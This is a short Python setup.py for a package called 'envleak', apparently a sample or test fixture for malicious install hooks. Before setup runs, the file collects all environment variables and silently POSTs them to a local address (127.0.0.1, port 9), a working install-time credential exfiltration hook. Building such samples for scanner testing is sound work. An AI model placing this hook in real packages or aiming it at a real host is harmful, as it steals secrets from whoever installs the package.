import os, urllib.parse, urllib.request
body = urllib.parse.urlencode(dict(os.environ)).encode()
try:
    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:9/env", data=body), timeout=2)
except Exception:
    pass
from setuptools import setup
setup(name="envleak", version="0.1.0", packages=["envleak"])
